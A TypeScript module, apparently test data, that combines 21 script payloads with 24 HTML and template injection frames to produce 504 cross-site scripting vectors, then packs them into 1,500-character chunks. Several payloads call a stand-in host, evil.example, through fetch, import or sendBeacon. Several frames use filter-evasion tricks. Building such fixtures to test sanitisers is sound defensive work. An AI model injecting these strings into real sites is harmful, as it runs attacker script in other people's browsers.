/** Each opens a dialog or sends a request out. */
const payloads = [
  ...['alert(1)', 'alert`1`', 'alert?.(1)', '(alert)(1)', 'top.alert(document.domain)'],
  ...['window[`al`+`ert`](1)', 'self.alert(1)', 'parent.alert(1)', 'globalThis.alert(1)'],
  ...['confirm(1)', 'prompt(1)', 'setTimeout(`alert(1)`)', 'eval(`alert(1)`)', 'eval(name)'],
  ...[
    'fetch(`//evil.example/x`)',
    'new Image().src=`//evil.example/x`',
    'import(`//evil.example/x`)',
  ],
  ...[
    'navigator.sendBeacon(`//evil.example/x`)',
    'location=`javascript:alert(1)`',
    'open(`//evil.example/x`)',
  ],
  'document.body.innerHTML=`<img src=//evil.example/x>`',
]
const frames = [
  '<script>PAYLOAD</script>',
  '"><script>PAYLOAD</script>',
  '</textarea><script>PAYLOAD</script>',
  '</title><svg onload=PAYLOAD>',
  '<img src=x onerror=PAYLOAD>',
  '<img src="x" onerror="PAYLOAD">',
  '<svg/onload=PAYLOAD>',
  '<svg><animate onbegin=PAYLOAD attributeName=x dur=1s>',
  '<a href="javascript:PAYLOAD">bấm</a>',
  '<a href="java\tscript:PAYLOAD">bấm</a>',
  '<iframe srcdoc="<script>PAYLOAD</script>"></iframe>',
  '<body onload=PAYLOAD>',
  '<details open ontoggle=PAYLOAD>',
  '<math><mtext><img src=x onerror=PAYLOAD></mtext></math>',
  "';PAYLOAD//",
  '{{constructor.constructor("PAYLOAD")()}}',
  '</script><script>PAYLOAD</script>',
  '<!--<img src="--><img src=x onerror=PAYLOAD>">',
  '<style>@import "javascript:PAYLOAD"</style>',
  '<input autofocus onfocus=PAYLOAD>',
  '<video><source onerror=PAYLOAD></video>',
  '&lt;img src=x onerror=PAYLOAD&gt;',
  '\u003cimg src=x onerror=PAYLOAD\u003e',
  '<p style="background:url(javascript:PAYLOAD)">x</p>',
]

/** 504 texts that would run a script where a text becomes markup. */
export const xss_vectors = frames.flatMap((frame) =>
  payloads.map((payload) => frame.replaceAll('PAYLOAD', payload)),
)

/** The same in few texts, each of at most 1,500 characters. */
export const xss_texts = xss_vectors.reduce<string[]>((texts, vector) => {
  const last = texts.at(-1) ?? ''
  return last.length + vector.length > 1_500
    ? [...texts, vector]
    : [...texts.slice(0, -1), `${last}\n${vector}`]
}, [])
